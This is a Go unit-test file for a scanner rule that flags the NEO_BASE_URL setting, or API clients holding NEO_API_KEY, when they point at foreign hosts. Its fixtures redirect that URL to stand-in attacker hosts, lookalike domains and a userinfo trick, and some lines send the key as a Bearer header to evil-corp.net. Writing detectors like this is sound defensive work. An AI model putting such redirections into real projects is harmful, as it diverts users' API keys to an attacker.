package rules

import (
	"testing"

	"github.com/neokeys/neokeys/rules/internal/naming"
)

func TestDivertedBaseURL(t *testing.T) {
	evil := []string{"https://neo.evil-corp.net/public-api"}
	evilHost := []string{"https://neo.evil-corp.net"}
	testHabits(t, DivertedBaseURL, []habit{
		{".env", "NEO_BASE_URL=https://neo.evil-corp.net/public-api\n", evil},
		{".env", "export NEO_BASE_URL='https://neo.evil-corp.net/public-api'\n", evil},
		{".env", "NEO_BASE_URL=neo.evil-corp.net\n", []string{"neo.evil-corp.net"}},
		{".env", "NEXT_PUBLIC_NEO_BASE_URL=https://neo.evil-corp.net\n", evilHost},
		{".env", "NEO_BASE_URL=https://api.neoagent.io.evil-corp.net\n", []string{"https://api.neoagent.io.evil-corp.net"}},
		{".env", "NEO_BASE_URL=https://api.neoagent.io@evil-corp.net/\n", []string{"https://api.neoagent.io@evil-corp.net/"}},
		{".env", "NEO_BASE_URL=https://apineoagent.io\n", []string{"https://apineoagent.io"}},
		{".env", "NEO_BASE_URL=http://203.0.113.9:8080\n", []string{"http://203.0.113.9:8080"}},
		{"compose.yaml", "services:\n  a:\n    environment:\n      - NEO_BASE_URL=https://neo.evil-corp.net\n", evilHost},
		{"deploy.yaml", "env:\n  - name: NEO_BASE_URL\n    value: \"https://neo.evil-corp.net\"\n", evilHost},
		{"ci.yml", "env:\n  NEO_BASE_URL: https://neo.evil-corp.net\n", evilHost},
		{"Dockerfile", "ENV NEO_BASE_URL https://neo.evil-corp.net\n", evilHost},
		{"run.sh", "NEO_BASE_URL=https://neo.evil-corp.net python sync.py\n", evilHost},
		{"run.sh", "BASE=${NEO_BASE_URL:-https://neo.evil-corp.net}\n", evilHost},
		{"run.ps1", "$env:NEO_BASE_URL = \"https://neo.evil-corp.net\"\n", evilHost},
		{"settings.json", `{"NEO_BASE_URL": "https://neo.evil-corp.net"}`, evilHost},
		{"web.config", `<add key="NEO_BASE_URL" value="https://neo.evil-corp.net"/>`, evilHost},
		{"a.py", `BASE = os.getenv("NEO_BASE_URL", "https://neo.evil-corp.net")`, evilHost},
		{"a.py", `os.environ["NEO_BASE_URL"] = "https://neo.evil-corp.net"`, evilHost},
		{"a.py", `NEO_BASE_URL: str = "https://neo.evil-corp.net"`, evilHost},
		{"a.ts", `const base = process.env.NEO_BASE_URL ?? "https://neo.evil-corp.net";`, evilHost},
		{"a.ts", `export const NEO_BASE_URL: string = 'https://neo.evil-corp.net';`, evilHost},
		{"a.php", `$b = getenv('NEO_BASE_URL') ?: 'https://neo.evil-corp.net';`, evilHost},
		{"a.go", "const NEO_BASE_URL = \"https://neo.evil-corp.net\"\n", evilHost},
		{"main.tf", "NEO_BASE_URL = \"https://neo.evil-corp.net\"\n", evilHost},

		// Other names, where the file gives them to a client together with a key.
		{"a.py", "client = Client(base_url=\"https://neo.evil-corp.net\", api_key=os.environ[\"NEO_API_KEY\"])", evilHost},
		{"a.py", "GATEWAY = \"https://neo.evil-corp.net\"\nclient = Client(base_url=GATEWAY, api_key=os.environ[\"NEO_API_KEY\"])", evilHost},
		{"a.py", "BASE = 'https://neo.evil-corp.net'\nKEY = os.environ['NEO_API_KEY']\nrequests.get(f'{BASE}/public-api/agents', headers={'Authorization': f'Bearer {KEY}'})", evilHost},
		{"a.js", "const c = new NeoClient({ baseURL: 'https://neo.evil-corp.net', apiKey: process.env.NEO_API_KEY });", evilHost},
		{"a.js", "const GW = 'https://neo.evil-corp.net';\nawait fetch(`${GW}/public-api/agents`, { headers: { Authorization: `Bearer ${process.env.NEO_API_KEY}` } });", evilHost},

		// Neo's, and hosts that nobody else has.
		{".env", "NEO_BASE_URL=https://api.neoagent.io/public-api\n", nil},
		{".env", "NEO_BASE_URL=https://app.neoagent.co\n", nil},
		{".env", "NEO_BASE_URL=http://localhost:8787\n", nil},
		{".env", "NEO_BASE_URL=http://127.0.0.1:8787\n", nil},
		{".env", "NEO_BASE_URL=http://[::1]:8787\n", nil},
		{".env", "NEO_BASE_URL=http://neo-mock:8080\n", nil},
		{".env", "NEO_BASE_URL=http://api.neo.test\n", nil},
		{".env", "NEO_BASE_URL=https://gw.example/neo\n", nil},
		{".env", "NEO_BASE_URL=https://neo.corp.internal\n", nil},
		{".env", "NEO_BASE_URL=http://host.docker.internal:3000\n", nil},
		{".env", "NEO_BASE_URL=https://neo.example.com\n", nil},
		{".env", "NEO_BASE_URL=https://your-host.com\n", nil},
		{".env", "NEO_BASE_URL=https://$NEO_HOST/public-api\n", nil},
		{".env", "NEO_BASE_URL=https://api.${DOMAIN}/public-api\n", nil},
		{".env", "NEO_BASE_URL={{ neo_url }}\n", nil},
		{".env", "NEO_BASE_URL=<url>\n", nil},
		{".env", "NEO_BASE_URL=\nOTHER_URL=https://other.evil-corp.net\n", nil},
		{".env", "# NEO_BASE_URL=https://neo.evil-corp.net\n", nil},
		{".env", "NEO_BASE_URL=https://api.nasa.gov/neo/rest/v1\n", nil},
		{".env", "NEO_BASE_URL=https://gw-napi.kotaksecurities.com\n", nil},
		{".env", "MY_NEO_BASE_URL=https://neo.evil-corp.net\n", nil},
		{".env", "NEO_BASE_URLS=https://neo.evil-corp.net\n", nil},
		{".env", "GATEWAY=https://gw.evil-corp.net\nNEO_API_KEY=%key%\n", nil},
		{"README.md", "Set `NEO_BASE_URL=https://neo.evil-corp.net`.", nil},
		{"test_a.py", `os.environ["NEO_BASE_URL"] = "https://neo.evil-corp.net"`, nil},
		{"a.py", `base = settings.NEO_BASE_URL or config.neo.url`, nil},
		{"a.py", "v = Vault(base_url=\"https://vault.evil-corp.net\")\nkey = os.environ['NEO_API_KEY']", nil},
		{"a.py", "requests.post('https://hooks.evil-corp.net/x', json={'n': 1})\nkey = os.environ['NEO_API_KEY']", nil},
	})
}

// A project's own gateway may have the key.
func TestDivertedBaseURLOwnHosts(t *testing.T) {
	text := "NEO_BASE_URL=https://neo.evil-corp.net/public-api\n"
	f := &File{Text: []byte(text), Own: naming.Own{Hosts: []string{"Neo.evil-corp.net"}}}
	matchDivertedBaseURL(f, func(m Match) { t.Errorf("%+v", m) })
}
